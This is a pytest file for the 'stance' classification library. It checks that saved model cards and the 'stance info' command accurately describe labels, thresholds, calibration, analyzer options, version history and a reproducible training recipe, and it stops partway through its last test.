import hashlib
import json
import shlex
from typing import NamedTuple

import pandas as pd
import pytest

import stance
from stance.card import model_card
from tests.conftest import ANALYZER_OPTIONS, OPTION_NAMES


def _metadata(model: stance.StanceModel, tmp_path) -> dict:
    import json

    model.save(tmp_path / "m")
    return json.loads((tmp_path / "m" / "metadata.json").read_text())


def test_a_model_without_an_off_topic_label_says_so(tmp_path):
    # With none_label=None the card said "Off-topic label: `None`", as if a label were named
    # None, beside a label "none" that is an ordinary target (a user audit).
    frame = pd.DataFrame({"text": ["wind now", "no turbines", "hello there", "good morning"] * 3,
                          "labels": ["wind", "wind", "none", "none"] * 3})
    card = model_card(_metadata(stance.train(frame, none_label=None, threshold_folds=0), tmp_path))
    assert "Off-topic label: none (every label above is a target)." in card
    assert "`None`" not in card


def test_the_off_topic_label_is_named(tmp_path):
    frame = pd.DataFrame({"text": ["wind now", "no turbines", "hello there", "good morning"] * 3,
                          "labels": ["wind", "wind", "other", "other"] * 3})
    card = model_card(_metadata(stance.train(frame, none_label="other", threshold_folds=0), tmp_path))
    assert "Off-topic label: `other`." in card


def test_the_card_gives_each_label_s_secondary_threshold(energy_model, tmp_path):
    # The thresholds at which a label joins the primary one were only in model.params_.
    card = (energy_model.save(tmp_path / "m") / "MODEL_CARD.md").read_text()
    params = energy_model.params_
    counts = energy_model.training_["label_counts"]
    raised = energy_model.training_.get("thresholds_raised", {})
    for label, threshold in zip(params.labels, params.thresholds):
        shown = "never" if label == params.none_label else f"{threshold:.3f}"
        if label in raised:  # too few rows to tune it on: at least the label's share of the rows
            shown += f" (tuned {raised[label]:.3f}, raised)"
        assert f"| `{label}` | {counts[label]} | {shown} |" in card


def test_a_loaded_model_whose_label_counts_are_no_map_saves_a_card_without_them(energy_model, tmp_path):
    # training_data's label_counts edited into a list (the digest and checksums redone): the
    # model loaded and predicted, but its save raised AttributeError ('list' object has no
    # attribute 'get') writing the card. A load does not check training records (a save writes
    # whatever training_ holds, and what a save writes must load): the card leaves them out.
    from stance.persistence import _digest_of, _reading_recorded

    path = energy_model.save(tmp_path / "m")
    metadata = json.loads((path / "metadata.json").read_text())
    metadata["training_data"]["label_counts"] = [17, 16, 16, 16]
    contents = {p.name: p.read_bytes() for p in path.iterdir() if p.suffix == ".npy" or p.name == "vocabulary.json"}
    metadata["parameters_sha256"] = _digest_of(contents, _reading_recorded(metadata))
    (path / "metadata.json").write_text(json.dumps(metadata))
    (path / "checksums.json").write_text(json.dumps({p.name: hashlib.sha256(p.read_bytes()).hexdigest()
                                                     for p in path.iterdir() if p.name != "checksums.json"}))
    loaded = stance.load(path)
    card = (loaded.save(tmp_path / "again") / "MODEL_CARD.md").read_text()
    assert all(f"| `{label}` | ? | " in card for label in loaded.labels)
    assert stance.load(tmp_path / "again").classify("More wind farms.") == energy_model.classify("More wind farms.")


def test_a_single_label_model_s_card_says_no_label_joins(tmp_path):
    frame = pd.DataFrame({"text": ["wind now", "no turbines", "hello there", "good morning"] * 3,
                          "labels": ["wind", "wind", "none", "none"] * 3})
    card = (stance.train(frame, threshold_folds=0).save(tmp_path / "m") / "MODEL_CARD.md").read_text()
    assert "| `wind` | 6 | never |" in card and "no label joins the primary one" in card


def test_the_card_says_when_the_model_was_created_and_which_versions_saved_it(energy_model, tmp_path, monkeypatch):
    # A model trained by 0.7.0, loaded and saved again by 0.9.0, kept its creation time and
    # recorded the versions of the save, and its card said "Created <that time> with stance
    # 0.9.0", a version that created nothing. The card says which versions saved it.
    monkeypatch.setattr(stance, "__version__", "0.7.0")
    energy_model.save(tmp_path / "old")
    monkeypatch.undo()
    old = (tmp_path / "old" / "MODEL_CARD.md").read_text()
    created = json.loads((tmp_path / "old" / "metadata.json").read_text())["created"]
    stance.load(tmp_path / "old").save(tmp_path / "new")
    new = (tmp_path / "new" / "MODEL_CARD.md").read_text()
    assert f"Created {created}; saved with stance 0.7.0, scikit-learn " in old
    assert f"Created {created}; saved with stance {stance.__version__}, scikit-learn " in new
    assert stance.__version__ != "0.7.0" and " with stance " not in new.replace("saved with stance", "")
    # A card in the words of before, saved again under the versions it records, stays as it was
    # (a save that writes metadata.json again byte for byte writes every file so).
    worded_before = new.replace(f"{created}; saved with stance", f"{created} with stance").encode()
    (tmp_path / "new" / "MODEL_CARD.md").write_bytes(worded_before)
    checksums = json.loads((tmp_path / "new" / "checksums.json").read_text())
    checksums["MODEL_CARD.md"] = hashlib.sha256(worded_before).hexdigest()
    (tmp_path / "new" / "checksums.json").write_text(json.dumps(checksums))
    again = stance.load(tmp_path / "new").save(tmp_path / "again")
    assert (again / "MODEL_CARD.md").read_bytes() == worded_before


def test_the_card_says_whether_confidence_is_calibrated_as_stance_info_does(energy_frame, energy_model, tmp_path,
                                                                            capsys):
    # A model trained on 32 rows had no calibration (stance info: "not calibrated"), but its
    # card said confidence was "calibrated on out-of-fold predictions" (a user audit): the
    # card said so of every model of format 4 or newer, and the default apostrophes make 6.
    from stance.cli import main

    small = stance.train(energy_frame.iloc[::2], stance_column="stance")
    assert small.params_.confidence_calibration is None  # 32 rows: too few answers wrong to calibrate on
    for model, name, calibrated in ((small, "small", False), (energy_model, "energy", True)):
        folder = model.save(tmp_path / name)
        card = (folder / "MODEL_CARD.md").read_text()
        assert ("calibrated on out-of-fold predictions" in card) == calibrated, card
        assert ("`confidence` is the primary label's probability, not calibrated" in card) == (not calibrated), card
        assert main(["info", "--model", str(folder)]) == 0
        assert ("not calibrated" in capsys.readouterr().out) == (not calibrated)
    card = (tmp_path / "small" / "MODEL_CARD.md").read_text()
    assert "fewer than 15 out-of-fold answers right or wrong" in card, card
    plain = stance.train(energy_frame, stance_column="stance", threshold_folds=0).save(tmp_path / "plain")
    assert "not calibrated (trained with threshold_folds=0, below 2)" in (plain / "MODEL_CARD.md").read_text()


def test_stance_info_says_why_a_model_s_confidence_is_not_calibrated_as_the_card_does(energy_frame, tmp_path,
                                                                                         capsys):
    # A user audit: for a model trained on too few rows, stance info printed every possible
    # reason ("a model saved before format 4, or trained with threshold_folds below 2, or with
    # fewer than 15 out-of-fold answers right or wrong, has none") where the card named its own.
    import json

    from stance.cli import main

    few = "training had fewer than 15 out-of-fold answers right or wrong to calibrate it on"
    cases = [(stance.train(energy_frame.iloc[::2], stance_column="stance"), "small", few),
             (stance.train(energy_frame, stance_column="stance", threshold_folds=0), "plain",
              "trained with threshold_folds=0, below 2"),
             # Format 3 before format 9 (apostrophes, links, spelling and invisibles False), the format
             # of a model saved before the calibration too; but trained and saved by this version, it
             # was tried and failed.
             (stance.train(energy_frame.iloc[::2], stance_column="stance", apostrophes=False,
                           links=False, spelling=False, invisibles=False, cannot=False, length_floor=None), "format3",
              few)]
    for model, name, why in cases:
        assert model.params_.confidence_calibration is None
        folder = model.save(tmp_path / name)
        assert f"not calibrated ({why})" in (folder / "MODEL_CARD.md").read_text()
        assert main(["info", "--model", str(folder)]) == 0
        assert f"confidence:     the primary label's probability (not calibrated: {why})\n" in capsys.readouterr().out
        assert main(["info", "--model", str(folder), "--json"]) == 0
        assert json.loads(capsys.readouterr().out)["confidence_not_calibrated_because"] == why
    # A calibrated model has no reason to give.
    assert main(["info", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["confidence_not_calibrated_because"] is None




def test_stance_info_and_the_card_say_that_no_threshold_fold_ran_for_too_few_texts(tmp_path, capsys):
    # A user audit: trained on 60 texts with threshold_folds=7 (fewer than 10 a fold), a model
    # ran no fold, and stance info said it was uncalibrated for "fewer than 15 out-of-fold
    # answers right or wrong" (there were none), while its card said its thresholds were
    # "tuned by cross-validation; 0.5 with threshold_folds below 2", neither true of it.
    import warnings

    from stance.cli import main
    from tests.test_confidence import _four_topics
    from tests.test_persistence import _rewrite_checksums

    why = ("no threshold folds ran: the training data's 60 different texts are fewer than 10 a fold for "
           "threshold_folds=7")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that no fold runs is warned of: tests/test_confidence.py
        folder = stance.train(_four_topics(60), threshold_folds=7).save(tmp_path / "f7")
        tuned = stance.train(_four_topics(60), threshold_folds=6).save(tmp_path / "f6")

    def said(folder):
        assert main(["info", "--model", str(folder)]) == 0
        text = capsys.readouterr().out
        assert main(["info", "--model", str(folder), "--json"]) == 0
        return text, json.loads(capsys.readouterr().out), (folder / "MODEL_CARD.md").read_text()

    text, info, card = said(folder)
    assert info["confidence_not_calibrated_because"] == info["thresholds_not_tuned_because"] == why
    assert f"confidence:     the primary label's probability (not calibrated: {why})\n" in text
    assert (f"secondary at:   gas 0.500, none never, nuclear 0.500, renewables 0.500 (not tuned: {why})\n"
            in text)
    assert f"not calibrated ({why})" in card
    assert f"reaches its threshold (0.5, not tuned: {why})." in card and "tuned by cross-validation" not in card
    # A model saved before the count was recorded is told by its rows, its parameters' digest
    # untouched (the training data's entries other than label_counts are not in it).
    metadata = json.loads((folder / "metadata.json").read_text())
    digest = metadata["parameters_sha256"]
    del metadata["training_data"]["too_few_texts_for_folds"]
    _rewrite_checksums(folder, metadata)
    assert metadata["parameters_sha256"] == digest
    rows = ("no threshold folds ran: the training data's 60 rows hold fewer than 10 different texts a fold for "
            "threshold_folds=7")
    thresholds = {"gas": 0.5, "none": None, "nuclear": 0.5, "renewables": 0.5}
    assert model_card(metadata, thresholds, calibrated=False).count(rows) == 2
    assert said(folder)[1]["confidence_not_calibrated_because"] == rows
    # Six folds of 10 ran: its thresholds were tuned, and its reason is its own.
    text, info, card = said(tuned)
    assert info["thresholds_not_tuned_because"] is None and "not tuned" not in text and "(tuned by cross-val" in card
    assert info["confidence_not_calibrated_because"] == ("training had fewer than 15 out-of-fold answers right or "
                                                         "wrong to calibrate it on")


def test_only_a_model_from_files_that_may_predate_the_calibration_is_said_to_maybe_predate_it(
        energy_frame, tmp_path, capsys, saved_as_before_format_9):  # saved as versions before format 9 saved it
    # A user audit: a format-3 model trained moments ago (apostrophes, links, spelling False) was
    # "a format-3 model: saved by a version of stance before the calibration (format 4), or
    # training had fewer than 15 …", in stance.info.model_info (its saved None) and in the card
    # of its save, though this version had tried to calibrate it.
    import json

    from stance.cli import main
    from stance.info import model_info
    from tests.test_persistence import _rewrite_checksums

    few = "training had fewer than 15 out-of-fold answers right or wrong to calibrate it on"
    model = stance.train(energy_frame.iloc[::2], stance_column="stance", apostrophes=False, links=False,
                         spelling=False, invisibles=False, cannot=False, handles=False, marks=False, cjk=False,
                         lookalikes=False, names=False, length_floor=None)
    info = model_info(model)
    assert info["saved"] is None and info["confidence_not_calibrated_because"] == few
    folder = model.save(tmp_path / "format3")
    assert json.loads((folder / "metadata.json").read_text())["format_version"] == 3
    assert f"not calibrated ({few})" in (folder / "MODEL_CARD.md").read_text()
    assert model_info(stance.load(folder))["confidence_not_calibrated_because"] == few
    # Files as a version before the calibration wrote them: options without those added since
    # (apostrophes, links, spelling and invisibles, formats 6 to 10), which a version since
    # records whatever their value.
    metadata = json.loads((folder / "metadata.json").read_text())
    for option in ("apostrophes", "links", "spelling", "invisibles"):
        del metadata["options"][option]
    _rewrite_checksums(folder, metadata)
    hedged = f"a format-3 model: saved by a version of stance before the calibration (format 4), or {few}"
    old = stance.load(folder)
    assert model_info(old)["confidence_not_calibrated_because"] == hedged
    assert main(["info", "--model", str(folder), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["confidence_not_calibrated_because"] == hedged
    assert model_card(metadata, calibrated=False).count(hedged) == 1
    # Trained again here, it is this version's model: its reason is its own.
    assert model_info(old.fit(energy_frame.text.iloc[::2], energy_frame.labels.iloc[::2])
                      )["confidence_not_calibrated_because"] == few


def test_the_card_says_how_links_and_handles_are_read(energy_frame, energy_model, tmp_path):
    # A model trained with links=True (the default) reads a post's links as no words; one
    # saved before the option, or trained with links=False, reads them as words.
    card = (energy_model.save(tmp_path / "new") / "MODEL_CARD.md").read_text()
    assert ("Web and e-mail addresses are no words to this model, and an @handle is one word "
            "(`links=True`)." in card)
    old = stance.train(energy_frame, stance_column="stance", links=False)
    card = (old.save(tmp_path / "old") / "MODEL_CARD.md").read_text()
    assert ('Web and e-mail addresses are read as words ("https", "t", "co"…) and an @handle as its pieces '
            '("user", "8725"): a model trained with `links=False` or saved before the option.' in card)


def test_the_saved_files_card_and_info_describe_the_options_the_model_was_fitted_with(energy_frame, energy_model,
                                                                                       tmp_path, monkeypatch, capsys):
    # A methodologist: after set_params(C=0.01, threshold_folds=0, stance_cues=False) on a
    # trained model, whose weights stay the C=30 fit, the save wrote those options into the
    # metadata, the card and stance info; the card then said stance_cues=False beside NOT_
    # marks its stance head reads, and threshold_folds=0 beside a calibrated confidence.
    import json
    import pickle
    import re
    import warnings

    from stance.cli import main
    from stance.info import model_info

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "0")
    fitted = energy_model.get_params()
    as_trained = energy_model.save(tmp_path / "as_trained")
    model = pickle.loads(pickle.dumps(energy_model)).set_params(C=0.01, threshold_folds=0, stance_cues=False)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        folder = model.save(tmp_path / "changed")
    # The files are those of the model as it was trained, to the byte.
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == {p.name: p.read_bytes() for p in as_trained.iterdir()}
    card = (folder / "MODEL_CARD.md").read_text()
    assert "`C=30.0`" in card and "`stance_cues=True`" in card and "`threshold_folds=3`" in card
    assert "C=0.01" not in card and "not calibrated" not in card
    # The save says which options it left out, and that they take effect only after fit.
    assert [w.category for w in caught] == [stance.StanceWarning]
    assert re.match(r"options set after the model was fitted take effect only after fit\(\): C=0\.01 \(fitted "
                    r"with 30\.0\), stance_cues=False \(fitted with True\), threshold_folds=0 \(fitted with 3\);",
                    str(caught[0].message))
    assert model.fitted_options_ == fitted and model_info(model)["options"] == fitted
    assert main(["info", "--model", str(folder), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["options"] == fitted
    # Loaded and given other options, likewise.
    loaded = stance.load(folder).set_params(C=0.01)
    assert loaded.fitted_options_ == fitted and model_info(loaded)["options"] == fitted
    # Why a confidence is not calibrated is told by the options it was trained with.
    small = stance.train(energy_frame.iloc[::2], stance_column="stance").set_params(threshold_folds=0)
    assert model_info(small)["confidence_not_calibrated_because"] == ("training had fewer than 15 out-of-fold "
                                                                      "answers right or wrong to calibrate it on")
    # Fitted again, the options set are the model's, and are saved without a warning.
    model.fit(energy_frame.text, energy_frame[["labels", "stance"]].fillna(""))
    assert model.fitted_options_ == model.get_params() and model.fitted_options_["C"] == 0.01
    with warnings.catch_warnings():
        warnings.simplefilter("error", stance.StanceWarning)
        refit = model.save(tmp_path / "refit")
    options = json.loads((refit / "metadata.json").read_text())["options"]
    assert (options["C"], options["threshold_folds"], options["stance_cues"]) == (0.01, 0, False)


def test_the_card_says_how_american_spellings_are_read(energy_frame, energy_model, tmp_path):
    # A model trained with spelling=True (the default) reads "defense" as "defence"; one saved
    # before the option, or trained with spelling=False, reads them as two words, and one of
    # another language reads its words as spelt whatever the option says.
    card = (energy_model.save(tmp_path / "new") / "MODEL_CARD.md").read_text()
    assert ('American spellings are read as British ones ("defense" as "defence", "mobilize" as "mobilise"; '
            '`spelling=True`).' in card)
    old = stance.train(energy_frame, stance_column="stance", spelling=False)
    card = (old.save(tmp_path / "old") / "MODEL_CARD.md").read_text()
    assert ('American and British spellings are two words to this model ("defense" and "defence"): a model '
            'trained with `spelling=False` or saved before the option.' in card)
    german = stance.train(energy_frame, stance_column="stance", stem="german")
    card = (german.save(tmp_path / "de") / "MODEL_CARD.md").read_text()
    assert "Words are read as spelt: `spelling` respells English only, and this model stems in german." in card


def test_the_card_says_how_invisible_format_characters_are_read(energy_model, energy_model_without_invisibles,
                                                                 tmp_path):
    # A model trained with invisibles=True (the default) reads "Ukr\u200baine" as "Ukraine"; one
    # trained with invisibles=False reads the zero-width space as parting the word.
    card = (energy_model.save(tmp_path / "new") / "MODEL_CARD.md").read_text()
    assert ("Invisible format characters inside a word are dropped (a zero-width space, a word joiner, a byte-order "
            "mark, a zero-width joiner or non-joiner, a direction mark), so that the word is read as if typed "
            "without them (`invisibles=True`)." in card)
    card = (energy_model_without_invisibles.save(tmp_path / "old") / "MODEL_CARD.md").read_text()
    assert ("Invisible format characters (a zero-width space, a word joiner, a byte-order mark, a zero-width joiner "
            "or non-joiner, a direction mark) part the word they are in: a model trained with `invisibles=False` "
            "or saved before the option." in card)


def test_a_model_saved_before_the_invisibles_option_keeps_the_card_it_had(energy_model_without_invisibles, tmp_path,
                                                                          saved_as_before_format_10):
    # As 0.3.0's bundled model was (format 9), loaded and saved again. A model of the energy data
    # is saved so alike: the card reads the format and the options, not the corpus (the 0.3.0
    # model, trained on the whole corpus for test_persistence's answers, trained again here).
    folder = energy_model_without_invisibles.save(tmp_path / "bundled")
    assert json.loads((folder / "metadata.json").read_text())["format_version"] == 9
    card = (stance.load(folder).save(tmp_path / "resaved") / "MODEL_CARD.md").read_text()
    assert "Invisible format characters" not in card and "invisibles" not in card


class CardLines(NamedTuple):
    """What the card says of an analyzer option, trained with it and without it."""

    since: str
    before: str
    also: tuple = ()  # (train's keywords, what the card of a model trained so says)


CARD_LINES = {
    # "cannot" is "can not", its "not" opening a negation's scope; the bundled model of 0.5.0
    # (format 10) read it as one word.
    "cannot": CardLines('"Cannot" is read as "can not", as "can\'t" is, so that its "not" opens a negation\'s scope '
                        '(`cannot=True`).',
                        '"Cannot" is one word, after which no negation\'s scope opens (where "can\'t" is "can not"): '
                        'a model trained with `cannot=False` or saved before the option.'),
    # "@ukraine.bsky.social" is one word; the bundled model of 0.6.0 (format 11) cut it at its dots.
    "handles": CardLines('A dotted handle ("@ukraine.bsky.social", "@nato.int", a Mastodon "@rutte@mastodon.social") '
                         'is one word, the handle with its dots, not the words it is made of (`handles=True`).',
                         'A dotted handle is cut at its dots ("@ukraine.bsky.social" is "ukraine", "bsky", "social") '
                         'and a Mastodon handle ("@rutte@mastodon.social") is read as an e-mail address, no word: a '
                         'model trained with `handles=False` or saved before the option.',
                         also=(({"links": False}, "No handle is one word, a dotted one neither (`links=False`)."),)),
    # "हिन्दी" is one word and "Са\u0301нкції" is "санкції"; the bundled model of 0.7.0 (format 12)
    # parted them at their marks.
    "marks": CardLines('A combining mark is part of the word it follows (Hindi\'s vowel signs and viramas: "हिन्दी" '
                       'is one word), and the marks that only annotate pronunciation are dropped (a stress mark on a '
                       'Cyrillic letter, the Arabic harakat and tatweel: "Са\u0301нкції" is "санкції") (`marks=True`).',
                       'A word is parted at each combining mark NFKC composes into no letter ("हिन्दी" is "ह", "न", '
                       '"द"; "Са\u0301нкції" is "са", "нкції"): a model trained with `marks=False` or saved before '
                       'the option.'),
    # "支持北约" is "支持", "持北", "北约"; the bundled model of 0.8.0 (format 13) read a run of
    # Chinese characters as one word.
    "cjk": CardLines('A run of Chinese characters or Japanese kana, written without spaces between words, is read as '
                     'its overlapping pairs of characters ("支持北约" is "支持", "持北", "北约"); Latin words inside '
                     'stay words, and Korean is read by its words (`cjk=True`).',
                     'A run of Chinese characters or Japanese kana is one word ("北约团结是我们安全的基础" is one '
                     'word, which no other text repeats): a model trained with `cjk=False` or saved before the '
                     'option.'),
    # The words negation_words gave ("not", "scarcely"), and the language it named; a model of
    # the default names its stem's words, as every model before the option (English ones for a
    # Polish model of stem=False, whatever "nie" and "no" are).
    "negation_words": CardLines("`NOT_…` marks the 3 words after a negation word given in training (not, scarcely), "
                                "for every head (`negation_words`).",
                                "`NOT_…` marks the 3 words after an English negation word (not, no, never, nor, "
                                "without, neither, none), for every head.",
                                also=(({"stem": False, "negation_words": "polish"},
                                       "`NOT_…` marks the 3 words after a Polish negation word (nie, nigdy, nic, "),
                                      ({"stem": False, "negation_words": "Polish"},
                                       'for the stance head only (`negation_words="polish"`).'),
                                      ({"negation_words": []},
                                       "No word opens a negation's scope: the model makes no `NOT_…` marks "
                                       "(`negation_words=[]`)."))),
    # "isn′t" (a prime for the apostrophe, as OCR gives it) is "is not", to the bundled model
    # too since 0.12.0 (format 16); a model saved before the option reads "isn" and "t".
    "lookalikes": CardLines('A look-alike of the apostrophe between two letters, as OCR and scraped text write it (a '
                            'prime ′, an acute accent ´, ‛, ‵, ʹ, ʽ, ʻ), is read as the apostrophe ("isn′t" is "is '
                            'not"); after a number it stays ("5′ 10″") (`lookalikes=True`).',
                            'A look-alike of the apostrophe (a prime ′, an acute accent ´, ‛, ‵, ʹ, ʽ, ʻ) parts its '
                            'word ("isn′t" is "isn" and "t", no negation): a model trained with `lookalikes=False` or '
                            'saved before the option.'),
    # "Suwalki" (as the press writes it) is "Suwałki", "Kiev" is "Kyiv", to the bundled model too
    # since 0.13.0 (format 17). A German model reads names as written.
    "names": CardLines('Names are read as the corpus writes them: the Latin letters without their diacritics '
                       '("Suwalki" as "Suwałki") and another transliteration as the corpus\'s ("Kiev" as "Kyiv", '
                       '"Zelenskyy" as "Zelensky"; `names=True`).',
                       '"Suwalki" and "Suwałki", "Kiev" and "Kyiv" are two words to this model: a model trained with '
                       '`names=False` or saved before the option.',
                       also=(({"stem": "german"},
                              "Names are read as written: `names` reads English only, and this model stems in "
                              "german."),)),
}


@pytest.mark.parametrize("option", ANALYZER_OPTIONS, ids=OPTION_NAMES)
def test_the_card_says_how_an_analyzer_option_reads(option, request, energy_frame, default_model,
                                                    tmp_path, monkeypatch):
    # A model trained with the option (the default) says how it reads what the option changes;
    # one trained without it says how it reads it instead, and one saved before the option
    # keeps the card it had.
    said = CARD_LINES[option.name]
    energy_model = request.getfixturevalue(option.trained_with)
    without = request.getfixturevalue(option.without)
    request.getfixturevalue(option.saved_before)
    card = (without.save(tmp_path / "before") / "MODEL_CARD.md").read_text().lower()
    assert not [word for word in option.card_silent if word in card]
    monkeypatch.undo()  # this version's saves from here
    card = (stance.load(tmp_path / "before").save(tmp_path / "resaved") / "MODEL_CARD.md").read_text().lower()
    assert not [word for word in option.card_silent if word in card]
    card = (energy_model.save(tmp_path / "new") / "MODEL_CARD.md").read_text()
    assert said.since in card
    card = (without.save(tmp_path / "old") / "MODEL_CARD.md").read_text()
    assert said.before in card
    # The bundled model, rebuilt with the option (format 17 since the names option), says so
    # too; it has the default negation_words (None), which format 17 holds. (An option it
    # predated, as it once did lookalikes and names, its card would be silent of.)
    assert default_model.saved_["format_version"] == 17
    card = (default_model.save(tmp_path / "bundled") / "MODEL_CARD.md").read_text()
    # ("…(`cjk=True`).", and "…\"Zelensky\"; `names=True`)." of names, whose line ends in a bracket)
    assert (f"`{option.name}=True`)." in card) is (option.on is True and option.bundled)
    assert option.bundled or not [word for word in option.card_silent if word in card.lower()]
    for i, (options, line) in enumerate(said.also):
        card = (stance.train(energy_frame, stance_column="stance", **options).save(tmp_path / f"also{i}")
                / "MODEL_CARD.md").read_text()
        assert line in card


def test_the_length_floor_line_names_a_stance_head_only_of_a_model_that_has_one(energy_frame, energy_model, tmp_path):
    # A fact-checker's audit: the card of a model trained without a stance column said "with a
    # target head (sigmoid) and no stance head." and then, of short texts, "the stance head reads
    # every vector at unit length".
    labels_only = stance.train(energy_frame[["text", "labels"]])
    assert labels_only.stance_classes == () and labels_only.params_.length_floor is not None
    card = model_card(_metadata(labels_only, tmp_path))
    floor = next(line for line in card.splitlines() if line.startswith("Short texts:"))
    assert "no stance head." in card and "stance head" not in floor
    assert floor.endswith("so that a text of a word or two is not read as surely as a sentence (`length_floor=10.0`).")
    with_stance = model_card(_metadata(energy_model, tmp_path / "s"))
    assert "; the stance head reads every vector at unit length." in with_stance


def _code_spans(line: str) -> list[str]:
    """The code spans of a Markdown line as CommonMark reads them: a run of n backticks opens
    one, the next run of exactly n closes it; one space is stripped from each end when both
    ends have one and the content is not all spaces."""
    spans, at = [], 0
    while (start := line.find("`", at)) >= 0:
        end = start
        while end < len(line) and line[end] == "`":
            end += 1
        fence, search = end - start, end
        while True:
            close = line.find("`" * fence, search)
            if close < 0:
                return spans  # an unmatched run is literal backticks
            after = close + fence
            if (close == 0 or line[close - 1] != "`") and (after == len(line) or line[after] != "`"):
                break
            search = after
            while search < len(line) and line[search] == "`":
                search += 1
        content = line[end:close]
        if len(content) > 1 and content[0] == content[-1] == " " and content.strip(" "):
            content = content[1:-1]
        spans.append(content)
        at = close + fence
    return spans


@pytest.mark.parametrize("odd", ["a`b", "`lead", "trail`", "two``ticks"])
def test_a_label_holding_a_backtick_reads_back_whole_from_the_card(tmp_path, odd):
    # "a`b" in `a`b` closed the span at its own backtick: the table showed `a` and a stray b`.
    frame = pd.DataFrame({"text": ["wind now", "no turbines", "hello there", "good morning"] * 3,
                          "labels": [odd, odd, "other", "other"] * 3})
    card = model_card(_metadata(stance.train(frame, none_label=odd, threshold_folds=0), tmp_path))
    rows = [line for line in card.splitlines() if line.startswith("| ") and "| 6 |" in line]
    assert sorted(_code_spans(row)[0] for row in rows) == sorted([odd, "other"]), rows
    off_topic = next(line for line in card.splitlines() if line.startswith("Off-topic label:"))
    assert _code_spans(off_topic)[0] == odd, off_topic
    options = next(line for line in card.splitlines() if "none_label=" in line)
    assert f"none_label={odd!r}" in _code_spans(options), options
    assert _code_spans("| `gas` | ``a`b`` | `` `x `` |") == ["gas", "a`b", "`x"]  # the reader itself


def _fenced(card: str, language: str) -> str:
    """The one line of the card's fenced ``language`` block."""
    block = card.split(f"```{language}\n", 1)[1]
    return block.split("\n```", 1)[0]


def test_the_card_s_training_command_and_call_train_the_same_model_again(energy_frame, tmp_path, monkeypatch):
    # The card's Options line could not be pasted into the command line (--option
    # target_head='ovr' was refused as "'ovr'", --option none_label='none' has its own flag),
    # and it did not say which columns were read: metadata["options"] passed to stance.train
    # trained without the stance head. The card gives the command and the call that train it
    # again, which, run on the same data, give the parameters digest the model records.
    from stance.cli import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "0")
    frame = energy_frame.rename(columns={"text": "statement", "labels": "codes", "stance": "position"})
    frame.assign(stance="favor").to_csv("a.csv", index=False)  # a "stance" column the model does not read
    options = ["target_head=ovr", "negation_words=nie,not", 'class_weight={"0": 1, "1": 2}', "C=3",
               "length_floor=none", "stance_class_weight=none", "min_df=2"]
    assert main(["train", "a.csv", "-o", "m", "--text-column", "statement", "--labels-column", "codes",
                 "--stance-column", "position", "--none-label", "none", *[f"--option={o}" for o in options]]) == 0
    digest = json.loads((tmp_path / "m" / "metadata.json").read_text())["parameters_sha256"]
    card = (tmp_path / "m" / "MODEL_CARD.md").read_text()
    assert digest in card
    command = shlex.split(_fenced(card, "sh"))
    assert command[:2] == ["stance", "train"] and "-o" in command
    command[command.index("-o") + 1] = "again"
    assert main(command[1:]) == 0
    assert json.loads((tmp_path / "again" / "metadata.json").read_text())["parameters_sha256"] == digest
    call = _fenced(card, "python")
    assert call.startswith("stance.train(")
    assert eval(call, {"stance": stance}).save(tmp_path / "called").name == "called"
    assert json.loads((tmp_path / "called" / "metadata.json").read_text())["parameters_sha256"] == digest


def test_a_card_without_the_columns_recorded_gives_no_training_command(energy_model, tmp_path):
    # A model fitted on lists, or saved before the columns were recorded, does not know which
    # columns it was trained on: its card gives no command rather than a wrong one.
    metadata = _metadata(energy_model, tmp_path)
    assert "```sh" in model_card(metadata)
    del metadata["training_data"]["columns"]
    assert "```sh" not in model_card(metadata) and "stance.train(" not in model_card(metadata)


def test_a_card_saved_without_the_training_command_is_saved_again_as_it_was(energy_model, tmp_path, monkeypatch):
    # The bundled model's card was written before the section: loaded and saved again under the
    # same versions, its folder must stay byte for byte as shipped; a new save gets the section.
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "0")
    folder = energy_model.save(tmp_path / "m")
    card = (folder / "MODEL_CARD.md").read_text()
    assert "\n## Training it again\n" in card
    before = card.split("\n## Training it again\n")[0]  # as cards ended before the section
    (folder / "MODEL_CARD.md").write_text(before)
    checksums = json.loads((folder / "checksums.json").read_text())
    checksums["MODEL_CARD.md"] = hashlib.sha256(before.encode()).hexdigest()
    (folder / "checksums.json").write_text(json.dumps(checksums))
    again = stance.load(folder).save(tmp_path / "again")
    assert (again / "MODEL_CARD.md").read_text() == before
    assert "\n## Training it again\n" in (energy_model.save(tmp_path / "new") / "MODEL_CARD.md").read_text()


def test_a_card_saved_again_under_other_versions_gives_no_recipe_it_cannot_vouch_for(energy_model, tmp_path,
                                                                                      monkeypatch):
    # An engineer's audit: a model saved again under other versions kept "Training it again",
    # whose "under the versions above" then named the new save's (scikit-learn 1.6.0 under a
    # digest 1.9.1 gave); and a card without the section got one once metadata.json changed.
    import stance.info

    first = energy_model.save(tmp_path / "m")
    trained_with = stance.load(first).saved_["versions"]
    installed = stance.info.installed
    monkeypatch.setattr(stance.info, "installed", lambda name: "0.0.1" if name == "scikit-learn" else installed(name))
    other = stance.load(first).save(tmp_path / "other")
    card = (other / "MODEL_CARD.md").read_text()
    assert "; saved with stance" in card and "scikit-learn 0.0.1" in card
    assert "\n## Training it again\n" not in card and "under the versions above" not in card
    note = [line for line in card.split("\n") if line.startswith("No recipe to train it again:")]
    assert len(note) == 1 and f"scikit-learn {trained_with['scikit-learn']}, " in note[0]
    # A review of df9d63dd: "(that card has it)" was false once saved over its folder, the
    # usual upgrade, and "the card this model was saved with before" once saved again.
    assert note[0].startswith("No recipe to train it again: an earlier card of this model gave one, under the "
                              "versions that saved that card (")
    assert "that card has it" not in note[0] and "saved with before" not in note[0]
    monkeypatch.setattr(stance.info, "installed", installed)
    # saved again under the versions that trained it, the line is kept as it was, and no recipe is added
    back = stance.load(other).save(tmp_path / "back")
    assert "\n## Training it again\n" not in (back / "MODEL_CARD.md").read_text()
    assert note[0] in (back / "MODEL_CARD.md").read_text().split("\n")
    # a card without the section gets none, though metadata.json changed (new metrics)
    before = (first / "MODEL_CARD.md").read_text().split("\n## Training it again\n")[0]
